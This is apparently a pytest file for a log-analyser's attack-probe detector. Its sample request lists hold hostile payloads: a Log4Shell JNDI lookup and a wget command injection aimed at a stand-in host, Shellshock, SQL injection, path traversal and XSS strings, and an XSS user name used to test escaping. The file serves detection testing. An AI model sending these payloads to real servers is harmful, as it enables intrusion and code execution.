"""`scan`: the attacks among the real logs are found, the ordinary ones raise no false alarm; each probe by samples.

What is found does not depend on the order of lines, or on how they are cut into frames.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote

import polars as pl
import pytest
from archives import make
from conftest import ROOT
from hypothesis import given, settings
from hypothesis import strategies as st
from program import invoke
from rounds import examples

import logstats
from logstats import ordered
from logstats.clients import scan as scans
from logstats.clients.probes import kinds, probes

REAL = ROOT.parent / "shared" / "real_logs"
SAMPLE = ROOT / "sample_logs" / "combined.log"
BEGIN = datetime(2025, 1, 17, 10, tzinfo=UTC)

# What each kind is for, and what looks like it and is not: (target, status).
PROBES = {
    "log4shell": [("/?x=${jndi:ldap://192.0.2.1/a}", 200), ("/?q=" + quote("${${lower:j}ndi:rmi://x}"), 404)],
    "shellshock": [("/?c=" + quote("() { :; }; /bin/id"), 200)],
    "traversal": [("/download?f=../../etc/x", 200), ("/cgi-bin/.%2e/.%2e/bin/x", 400), ("/?page=php://input", 200)],
    "sql": [("/item?id=1%27%20OR%201=1--", 200), ("/?a=1+UNION+ALL+SELECT+1", 500), ("/?a=sleep(5)", 200)],
    "script": [("/?q=%3Cscript%3Ealert(1)%3C/script%3E", 200), ("/?q=x%22%20onerror=%22y", 200)],
    "command": [("/?ip=1;wget%20http://192.0.2.1/x", 200), ("/run?c=$(id)", 200)],
    "exploit": [("/vendor/phpunit/src/Util/PHP/eval-stdin.php", 404), ("/w00tw00t.at.ISC.SANS.DFind", 404)],
    "inclusion": [("/a.php?lang=http://192.0.2.1/r.txt?", 404)],
    "secrets": [("/.env", 404), ("/.git/config", 403), ("/wp-config.php.bak", 404), ("/backup.zip", 404)],
    "wordpress": [("/wp-login.php", 404), ("/blog/wp-admin/", 404), ("/?author=3", 404)],
    "admin": [("/phpmyadmin/", 404), ("/actuator/env", 401), ("/cgi-bin/test", 403)],
    "shells": [("/c99.php", 404), ("/uploads/my-shell.php", 404)],
}
ORDINARY = [
    ("/wp-login.php", 200), ("/.well-known/acme-challenge/x", 404), ("/a..b/", 200),
    ("/search?q=select+a+hotel+from+the+list", 200), ("/search?q=union+square", 200), ("/blog/its-or-was", 200),
    ("/favicon.ico", 404), ("/login?next=https://example.com/a", 302), ("/about.php", 200), ("/img/envelope.png", 404),
    ("/products?ids=1,2,3&sort=-price", 200), ("/r?u=http%3A%2F%2Fexample.com%2F", 404), ("/a?x=cat%20food", 200),
]  # fmt: skip


def asked(target: str, status: int, agent: str = "Mozilla/5.0", method: str = "GET") -> str | None:
    columns = {"target": [target], "method": [method], "user_agent": [agent], "referer": ["-"], "status": [status]}
    kind: str | None = kinds(pl.DataFrame(columns, schema_overrides={"status": pl.UInt16}))[0]
    return kind


def test_every_probe_is_known_by_its_samples() -> None:
    for kind, samples in PROBES.items():
        for target, status in samples:
            assert asked(target, status) == kind, target
    assert asked("/", 200, "sqlmap/1.7") == "scanner"
    assert asked("192.0.2.1:25", 400, method="CONNECT") == "proxy"
    assert {*PROBES, "scanner", "proxy"} == set(probes())


@pytest.mark.parametrize(("target", "status"), ORDINARY)
def test_what_only_looks_like_a_probe(target: str, status: int) -> None:
    assert asked(target, status) is None


ATTACKS = {  # by what their names say; none of these is about a sign that one line has
    "apache-cve-2021-41773", "apache-http-probing", "apache2-http-sensitive-files", "apache2-malformed",
    "apache_log4j2_cve-2021-44228", "bunkerweb-http-path-traversal", "bunkerweb-http-sensitive-files",
    "http-admin-interface-probing", "http-bf-wordpress-bf", "http-cve-probing", "http-dos-bypass-cache",
    "http-dos-random-uri", "http-wordpress-scan", "http-wordpress_user-enum", "nginx-http-backdoor",
    "nginx-http-malformed", "nginx-http-open-proxy", "nginx-http-sqli-probing", "nginx-http-w00twoot",
}  # fmt: skip


def test_attacks_among_the_real_logs_are_found(real_logs: Path) -> None:
    files = {file.name.removeprefix("crowdsecurity_hub__").removesuffix(".log"): file for file in real_logs.glob("*/*")}
    for name in ATTACKS:
        assert logstats.scan([files[name]]).listed, name
    spam = logstats.scan([real_logs / "apache_combined_attacks" / "nielsbasjes_logparser__hackers-access.log"])
    assert spam.total > spam.clients / 2, "who fills in forms faster than a person"


def test_no_false_alarm_on_ordinary_logs(real_logs: Path) -> None:
    """Whom these logs list has asked for what their sites do not have. But three, which are no people: two fill in
    forms in two seconds, and one fetches a shop page by page, without a picture."""
    alarms = []
    for file in sorted(real_logs.glob("*/*")):
        if file.suffix == ".jsonl" or "crowdsec" in file.name or "attacks" in file.parent.name:
            continue
        for client in logstats.scan([file]).listed:
            if not {sign.name for sign in client.signs} & set(probes()):
                alarms.append(client.client)
    assert sorted(alarms) == ["5.135.53.214", "85.114.133.118", "91.99.72.15"]


def line(
    second: float, client: str, target: str, status: int = 200, agent: str = "Mozilla/5.0", method: str = "GET"
) -> str:
    time = (BEGIN + timedelta(seconds=second)).strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'{client} - - [{time}] "{method} {target} HTTP/1.1" {status} 12 "-" "{agent}"'


ASKER = "198.51.100.1"
PEOPLE = [
    line(n * 37 % 9000, f"192.0.2.{n % 50}", target)
    for n in range(600)
    for target in (f"/p/{n % 90}", "/a.css", "/b.js")
]


def uneven(n: int) -> int:
    """Seconds, by no steady step."""
    return n * 31 + n * n % 29


BEHAVIOURS = {
    "steady": [line(n * 60, ASKER, "/status") for n in range(40)],
    "many_paths": [line(uneven(n), ASKER, f"/item/{n}") for n in range(60)],
    "not_found": [line(uneven(n), ASKER, f"/x{n % 5}", 404) for n in range(40)],
    "fast": [line(n / 10, ASKER, f"/p/{n % 3}") for n in range(60)],
    "forms": [line(n * 100, ASKER, "/login", 401, method="POST") for n in range(9)],
    "hasty": [
        line(n * 5000 + at, ASKER, "/register", method=how) for n in range(3) for at, how in ((0, "GET"), (2, "POST"))
    ],
    "agents": [line(n * 501, ASKER, f"/p/{n % 3}", agent=f"Mozilla/5.{n}") for n in range(20)],
    "not_http": [line(n * 700, ASKER, "x").replace("GET x HTTP/1.1", r"\x16\x03\x01") for n in range(6)],
    "no_assets": [line(n * 613, ASKER, f"/p/{n % 9}") for n in range(25)],
}


def signs_of(lines: list[str], tmp_path: Path) -> set[str]:
    (tmp_path / "a.log").write_text("\n".join([*PEOPLE, *lines]) + "\n")
    listed = logstats.scan([tmp_path / "a.log"]).listed
    assert {client.client for client in listed} <= {ASKER}, "people are not listed"
    return {sign.name for client in listed for sign in client.signs}


def test_weak_signs_need_another(tmp_path: Path) -> None:
    for name in ("forms", "hasty", "not_http"):
        assert name in signs_of(BEHAVIOURS[name], tmp_path), "stands alone"
    with_asset = line(0, ASKER, "/a.css")
    for name in ("steady", "many_paths", "not_found", "fast", "agents"):
        assert not signs_of([*BEHAVIOURS[name], with_asset], tmp_path), name
    for name in ("steady", "many_paths", "fast"):
        assert signs_of(BEHAVIOURS[name], tmp_path) == {name, "no_assets"}
    assert signs_of([*BEHAVIOURS["not_found"], *BEHAVIOURS["no_assets"]], tmp_path) == {"not_found", "no_assets"}


def test_who_says_what_it_is_is_not_listed_for_behaviour(tmp_path: Path) -> None:
    declared = [
        text.replace("Mozilla/5.0", "Examplebot/1.0 (+https://example.com/bot)") for text in BEHAVIOURS["many_paths"]
    ]
    assert not signs_of(declared, tmp_path)
    assert signs_of([*declared, line(1, ASKER, "/.env", 404, "Examplebot/1.0")], tmp_path) == {"secrets"}


@settings(max_examples=examples(3), deadline=None)
@given(st.permutations(range(12)), st.integers(1, 50), st.integers(1, 40))
def test_order_and_cuts_do_not_matter(order: list[int], size: int, batch: int) -> None:
    frame = pl.concat(list(logstats.read([SAMPLE])))
    wanted = scans.scan([frame], "client_ip").to_dict()
    parts = [part for n in order for part in frame[n::12].iter_slices(size * 10)]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(ordered, "BATCH", batch)
        patch.setattr(ordered, "LIMIT", 20_000)
        assert scans.scan(parts, "client_ip").to_dict() == wanted
    assert wanted["listed_total"] == 2


def test_a_client_beyond_what_is_looked_at(monkeypatch: pytest.MonkeyPatch) -> None:
    frame = pl.concat(list(logstats.read([SAMPLE]))).with_columns(client_ip=pl.lit("192.0.2.1"))
    monkeypatch.setattr(scans, "MOST", 100)
    monkeypatch.setattr(ordered, "BATCH", 30)
    made = scans.scan([frame], "client_ip")
    assert (made.requests, made.clients) == (frame.height, 1)
    assert all(client.requests == frame.height for client in made.listed)


def test_every_output_says_the_same(tmp_path: Path) -> None:
    made = json.loads(invoke("scan", str(SAMPLE), "-o", "json").stdout)
    rows = list(csv.DictReader(io.StringIO(invoke("scan", str(SAMPLE), "-o", "csv").stdout.decode())))
    assert [(row["client"], row["sign"]) for row in rows] == [
        (client["client"], sign["sign"]) for client in made["listed"] for sign in client["signs"]
    ]
    assert made["probes"]["secrets"]["requests"] == sum(int(row["of"]) for row in rows if row["sign"] == "secrets")
    for output in ("table", "markdown", "html"):
        shown = invoke("scan", str(SAMPLE), "-o", output).stdout.decode()
        assert all(client["client"] in shown for client in made["listed"])
    make(tmp_path / "archive", [SAMPLE])
    of_archive = json.loads(invoke("scan", "--archive", str(tmp_path / "archive"), "-o", "json").stdout)
    assert of_archive == {**made, "notes": of_archive["notes"]}
    assert invoke("scan").returncode == 0
    assert invoke("scan", stdin=b"x\ny\n").returncode == 5


def test_names_of_clients_are_text(tmp_path: Path) -> None:
    """A user's name is whatever a log says; it heads what is said of its client."""
    evil = "<img/src=x/onerror=alert(1)>[a](javascript:alert(1))"
    lines = (line(n, "192.0.2.1", "/.env", 404).replace(" - - ", f" - {evil} ") for n in range(9))
    (tmp_path / "a.log").write_text("\n".join(lines) + "\n")
    for command in (("scan", "--user-key", "user_id"), ("sessions", "--of", evil)):
        for output in ("markdown", "html", "table"):
            ran = invoke(*command, str(tmp_path / "a.log"), "-q", "-o", output)
            shown = ran.stdout.decode()
            assert ran.returncode == 0 and "onerror" in shown, ran.stderr
            assert ("<img" in shown) == (output == "table"), command
            assert ("](javascript" in shown) == (output != "markdown"), command
